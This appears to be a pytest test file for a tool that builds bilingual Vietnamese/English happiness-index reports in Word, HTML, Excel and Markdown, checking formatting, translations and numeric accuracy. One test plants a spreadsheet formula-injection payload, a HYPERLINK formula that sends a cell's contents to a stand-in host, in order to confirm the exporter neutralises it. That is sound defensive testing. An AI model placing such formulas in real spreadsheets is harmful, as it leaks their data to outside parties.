"""Evidence for the report documents: Word (Decree 30/2020 format), HTML, Excel, catalog, numbers."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import re
import string
from html.parser import HTMLParser

import numpy as np
import pytest
from report_helpers import VI_LETTERS, ascii_sentences, visible_text, without_names

import happiness_index as hi
from happiness_index.report.annual import write_report_files
from happiness_index.report.catalog import LANGUAGES, catalog
from happiness_index.report.numbers import fmt_date, fmt_int, fmt_number, parse_number

CONFIG = {
    "issuing_body": "Chi cục Thống kê thành phố Yên Bái",
    "document_number": "15/BC-CCTK",
    "place": "Yên Bái",
    "signer_title": "Chi cục trưởng",
    "date": "2026-12-07",
}


@pytest.fixture(scope="module")
def folders(tmp_path_factory):
    """The bundled example, ``happiness-index run --example``, in both languages."""
    from happiness_index.report.cli import main

    out = {}
    for lang in LANGUAGES:
        d = tmp_path_factory.mktemp(f"rep_{lang}") / "report"
        assert main(["run", "--example", "--out", str(d), "--lang", lang, "--quiet"]) == 0
        out[lang] = d
    return out


@pytest.fixture(scope="module")
def results(folders):
    return json.loads((folders["vi"] / "results.json").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def configured(results, tmp_path_factory):
    """Word reports with the administrative details of ``CONFIG``, both languages."""
    from happiness_index.report.content import build_document
    from happiness_index.report.word import write_docx

    d = tmp_path_factory.mktemp("configured")
    return {lang: write_docx(build_document(results, lang, CONFIG), d / f"{lang}.docx") for lang in LANGUAGES}


# ----------------------------------------------------------------------------- numbers and dates
def test_babel_formats():
    assert fmt_number(76.93060, "vi") == "76,93" and fmt_int(3400, "vi") == "3.400"
    assert fmt_number(76.93060, "en") == "76.93" and fmt_int(3400, "en") == "3,400"
    assert fmt_number(3.6856, "vi", sign=True) == "+3,69" and fmt_number(-5.33, "vi", sign=True) == "-5,33"
    assert fmt_date(dt.date(2026, 12, 7), "vi") == "ngày 07 tháng 12 năm 2026"
    assert fmt_date(dt.date(2027, 2, 5), "vi") == "ngày 05 tháng 02 năm 2027"  # months 1-2 take a zero
    assert fmt_date(dt.date(2027, 3, 15), "vi") == "ngày 15 tháng 3 năm 2027"
    assert fmt_date(dt.date(2026, 12, 7), "en") == "7 December 2026"
    assert parse_number("3.400", "vi") == 3400 and parse_number("+76,93", "vi") == 76.93
    assert fmt_number(float("nan"), "vi") == "—" and fmt_number(None, "en") == "—"
    assert fmt_number(-0.001, "vi", sign=True) == "0,00" and fmt_number(-0.004, "en") == "0.00"


# ----------------------------------------------------------------------------- catalog
def test_every_catalog_entry_is_translated_with_the_same_placeholders():
    vi, en = catalog("vi"), catalog("en")
    assert set(vi.messages) == set(en.messages) and len(vi.messages) > 150
    for key in vi.messages:
        assert vi.messages[key].strip() and en.messages[key].strip(), key
        assert vi.placeholders(key) == en.placeholders(key), key
        list(string.Formatter().parse(vi.messages[key]))  # well-formed braces
    leaks = {k: ascii_sentences(re.sub(r"\{[^}]*\}", "", v)) for k, v in vi.messages.items()}
    assert not {k: v for k, v in leaks.items() if v}, "English sentences in the Vietnamese catalog"
    assert not [k for k, v in en.messages.items() if VI_LETTERS.search(v)], "Vietnamese in the English catalog"


def test_catalog_refuses_an_unknown_language_and_key():
    with pytest.raises(hi.HappinessIndexError, match="lang"):
        catalog("fr")
    with pytest.raises(KeyError, match="no.such.key"):
        catalog("vi")("no.such.key")


# ----------------------------------------------------------------------------- Word
def _docx(folder):
    import docx

    return docx.Document(str(folder if folder.suffix == ".docx" else folder / "report.docx"))


def test_docx_header_block_follows_decree_30(configured):
    from docx.shared import Cm, Pt

    d = _docx(configured["vi"])
    sec = d.sections[0]
    assert abs(sec.page_width - Cm(21)) < Cm(0.05) and abs(sec.page_height - Cm(29.7)) < Cm(0.05)
    assert (
        round(sec.top_margin.cm, 1),
        round(sec.bottom_margin.cm, 1),
        round(sec.left_margin.cm, 1),
        round(sec.right_margin.cm, 1),
    ) == (2.0, 2.0, 3.0, 1.5)
    head = d.tables[0]
    left = [p.text for p in head.cell(0, 0).paragraphs if p.text]
    right = [p.text for p in head.cell(0, 1).paragraphs if p.text]
    assert left == ["CỤC THỐNG KÊ TỈNH YÊN BÁI", "CHI CỤC THỐNG KÊ THÀNH PHỐ YÊN BÁI", "Số: 15/BC-CCTK"]
    assert right == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Yên Bái, ngày 07 tháng 12 năm 2026",
    ]
    runs = {p.text: p.runs[0] for c in head.rows[0].cells for p in c.paragraphs if p.text}
    assert runs["CHI CỤC THỐNG KÊ THÀNH PHỐ YÊN BÁI"].bold and runs["Độc lập - Tự do - Hạnh phúc"].bold
    assert runs["Yên Bái, ngày 07 tháng 12 năm 2026"].italic
    assert runs["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"].font.size == Pt(12)
    body = [p.text for p in d.paragraphs if p.text]
    i = body.index("BÁO CÁO")
    assert body[i + 1].startswith("Kết quả khảo sát năm 2024 về chỉ số hạnh phúc")
    fonts = {r.font.name for p in d.paragraphs for r in p.runs if r.text}
    assert fonts == {"Times New Roman"}
    headings = [p.text for p in d.paragraphs if p.style.name == "Heading 1"]
    assert headings[0] == "1. Kết quả chính" and headings[-1] == "Phụ lục: thông tin kỹ thuật"
    body = [p for p in d.paragraphs if p.text.startswith("Chỉ số hạnh phúc của người dân")][0]
    assert body.runs[0].font.size == Pt(14) and body.paragraph_format.first_line_indent is not None
    sig = [t for t in d.tables if t.cell(0, 0).paragraphs and t.cell(0, 0).paragraphs[0].text == "Nơi nhận:"]
    assert len(sig) == 1
    left = [p.text for p in sig[0].cell(0, 0).paragraphs]
    assert left[1].startswith("- ") and left[-1] == "- Lưu: VT."
    right = [p.text for p in sig[0].cell(0, 1).paragraphs if p.text]
    assert right == ["CHI CỤC TRƯỞNG", "(Ký, đóng dấu)", "[Họ và tên]"]


def test_docx_english_version_has_the_same_structure(configured, folders):
    d = _docx(configured["en"])
    right = [p.text for p in d.tables[0].cell(0, 1).paragraphs if p.text]
    assert right == ["SOCIALIST REPUBLIC OF VIET NAM", "Independence - Freedom - Happiness", "Yên Bái, 7 December 2026"]
    assert "REPORT" in [p.text for p in d.paragraphs]
    assert len(d.tables) == len(_docx(configured["vi"]).tables)
    default = _docx(folders["en"])  # the defaults of the catalog, no configuration
    left = [p.text for p in default.tables[0].cell(0, 0).paragraphs if p.text]
    assert left == ["YEN BAI PROVINCIAL STATISTICS OFFICE", "YEN BAI CITY STATISTICS BRANCH", "No.: …/BC-CCTK"]
    assert [p.text for p in default.tables[-1].cell(0, 1).paragraphs if p.text] == [
        "HEAD OF BRANCH",
        "(Signature and seal)",
        "[Full name]",
    ]


def _flat_numbers(obj, out):
    if isinstance(obj, dict):
        for v in obj.values():
            _flat_numbers(v, out)
    elif isinstance(obj, list):
        for v in obj:
            _flat_numbers(v, out)
    elif isinstance(obj, (int, float)) and not isinstance(obj, bool):
        out.append(float(obj))
    return out


def test_every_number_in_the_docx_tables_is_in_results_json(folders):
    res = json.loads((folders["vi"] / "results.json").read_text(encoding="utf-8"))
    derived = [max(c["estimate"] - c["ci_low"], c["ci_high"] - c["estimate"]) for c in res["communes"]]  # half-widths
    known = np.array(_flat_numbers({k: v for k, v in res.items() if k != "provenance"}, derived))
    number = re.compile(r"[+-]?\d+(?:\.\d{3})*(?:,\d+)?")
    d = _docx(folders["vi"])
    checked = 0
    for table in d.tables[1:-1]:  # the header block and signature hold no statistics
        for row in table.rows[1:]:
            for cell in row.cells[1:]:  # the first cell names the row (commune, item)
                if " = " in cell.text:  # a characteristic's category ("age_group = 35-59")
                    continue
                for tok in number.findall(cell.text):
                    if re.fullmatch(r"20\d\d", tok):
                        continue  # a year
                    x = parse_number(tok, "vi")
                    decimals = len(tok.split(",")[1]) if "," in tok else 0
                    tol = 0.5 * 10**-decimals + 1e-9
                    hits = np.abs(known - x) <= tol
                    hits |= np.abs(100 * known - x) <= tol  # shares shown in percent
                    assert hits.any(), (tok, cell.text)
                    checked += 1
    assert checked > 200
    # every number with decimals in the body text too (sentences print sizes of changes unsigned)
    decimal = re.compile(r"[+-]?\d+(?:\.\d{3})*,\d+")
    for p in d.paragraphs:
        for tok in decimal.findall(p.text):
            x = parse_number(tok, "vi")
            tol = 0.5 * 10 ** -len(tok.split(",")[1]) + 1e-9
            assert (np.abs(np.abs(known) - abs(x)) <= tol).any(), (tok, p.text)
            checked += 1
    assert checked > 260
    # the city's index as printed equals results.json rounded
    comps = d.tables[1]
    assert comps.rows[0].cells[1].text == "Ước lượng"
    assert comps.rows[1].cells[1].text == fmt_number(res["components"][0]["estimate"], "vi")


def test_docx_commune_table_has_names_and_publishable_flag(folders):
    d = _docx(folders["vi"])
    tables = [
        t
        for t in d.tables
        if t.rows[0].cells[0].text == "Xã / phường" and t.rows[0].cells[-1].text == "Đủ tin cậy để công bố"
    ]
    assert len(tables) == 1
    names = {r.cells[0].text for r in tables[0].rows[1:]}
    assert "Nguyễn Thái Học" in names and len(names) == 17


def test_outputs_are_reproducible(results, folders, tmp_path):
    a, b = folders["vi"], tmp_path
    write_report_files(results, b, "vi")
    for name in ("tables.xlsx", "report.docx", "report.html", "report.md"):
        assert hashlib.sha256((a / name).read_bytes()).digest() == hashlib.sha256((b / name).read_bytes()).digest(), (
            name
        )


# ----------------------------------------------------------------------------- HTML
class _Refs(HTMLParser):
    def __init__(self):
        super().__init__()
        self.refs = []

    def handle_starttag(self, tag, attrs):
        for k, v in attrs:
            if k in ("src", "href", "data", "poster", "srcset", "action") and v is not None:
                self.refs.append((tag, k, v))


def test_html_references_no_external_file(folders):
    for lang in LANGUAGES:
        page = (folders[lang] / "report.html").read_text(encoding="utf-8")
        p = _Refs()
        p.feed(page)
        assert p.refs and all(v.startswith("data:image/") for _, _, v in p.refs), p.refs[:3]
        assert "@import" not in page and "url(" not in page and "<link" not in page and "<script" not in page
        assert "@page{size:A4" in page and "break-inside:avoid" in page and "break-before:page" in page


# ----------------------------------------------------------------------------- Excel
def test_xlsx_is_formatted(folders):
    from openpyxl import load_workbook

    wb = load_workbook(folders["vi"] / "tables.xlsx")
    assert wb.sheetnames == [
        "Chỉ số",
        "Thành phần",
        "Xã phường",
        "Thay đổi theo xã",
        "Mục tiêu",
        "Yếu tố",
        "Địa bàn nhỏ",
        "Phân bố",
        "Ghi chú",
    ]  # run --example: drivers, small areas, distributions
    ws = wb["Xã phường"]
    head = [c.value for c in ws[1]]
    assert head[:2] == ["Xã / phường", "Ước lượng"] and "Đủ tin cậy để công bố" in head  # no codes: no code column
    assert ws.freeze_panes == "A2" and ws["B1"].font.bold
    assert ws["B2"].number_format == "0.00" and isinstance(ws["B2"].value, float)
    assert ws.cell(row=2, column=head.index("Sai số chuẩn tương đối") + 1).number_format == "0.0%"
    assert ws.column_dimensions["A"].width >= 12
    assert "Đủ tin cậy để công bố" in [c.value for c in wb["Thay đổi theo xã"][1]]
    notes = [r[0].value for r in wb["Ghi chú"].iter_rows()]
    assert any(str(n).startswith("Nguồn:") for n in notes) and any("Phụ lục" in str(n) for n in notes)
    en = load_workbook(folders["en"] / "tables.xlsx")
    assert en.sheetnames[2] == "Communes" and en["Communes"]["B1"].value == "Estimate"
    assert not any(str(n).startswith("'") for n in notes)  # bullets, not "-" (no formula guard)


def test_xlsx_neutralises_formulas(results, tmp_path):
    import copy

    from openpyxl import load_workbook

    from happiness_index.report.excel import write_tables_xlsx

    evil = copy.deepcopy(results)
    evil["communes"][0]["name"] = '=HYPERLINK("http://x"&A1,"click")'
    write_tables_xlsx(evil, tmp_path / "tables.xlsx", "vi")
    ws = load_workbook(tmp_path / "tables.xlsx")["Xã phường"]
    values = [c.value for c in ws["A"]]
    assert '\'=HYPERLINK("http://x"&A1,"click")' in values and not any(str(v).startswith("=") for v in values)
    ws2 = load_workbook(tmp_path / "tables.xlsx")["Thay đổi theo xã"]
    assert all(isinstance(c.value, float) or c.value is None for c in ws2["D"][1:])  # negative changes stay numbers


def test_bundled_example_outputs_hold_no_foreign_language(folders, results):
    """No English in the Vietnamese report, no Vietnamese in the English one (commune names, the
    title and sources excepted), in every format of the bundled example."""

    for lang in LANGUAGES:
        for fmt, text in visible_text(folders[lang]).items():
            text = without_names(text, results)
            if lang == "vi":
                assert not ascii_sentences(text), (fmt, ascii_sentences(text)[:5])
            else:
                lines = [ln for ln in text.splitlines() if VI_LETTERS.search(ln)]
                assert not lines, (fmt, lines[:5])


def test_control_characters_and_undefined_estimates_are_written(results, tmp_path):
    """A name with a stray control character (XML forbids it) and a commune without an estimate."""
    import copy

    import docx
    from openpyxl import load_workbook

    r = copy.deepcopy(results)
    r["communes"][0]["name"] = "Âu\x07 Lâu"
    r["communes"][1].update(estimate=None, ci_low=None, ci_high=None, se=None, diff_city_pp=None, publishable=False)
    r["change"]["by_group"][1].update(p_value=None, p_holm=None, p_bh=None, change_pp=None)
    write_report_files(r, tmp_path, "vi")
    cells = [c.text for t in docx.Document(str(tmp_path / "report.docx")).tables for row in t.rows for c in row.cells]
    assert "Âu\ufffd Lâu" in cells
    ws = load_workbook(tmp_path / "tables.xlsx")["Xã phường"]
    names = [c.value for c in ws["A"]]
    assert "Âu\ufffd Lâu" in names
    row = names.index(r["communes"][1]["name"]) + 1
    col = [c.value for c in ws[1]].index("Ước lượng") + 1
    assert ws.cell(row=row, column=col).value is None  # no estimate: an empty cell
    md = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert f"| {r['communes'][1]['name']} | — | — | — |" in md and "không: chỉ số không xác định" in md
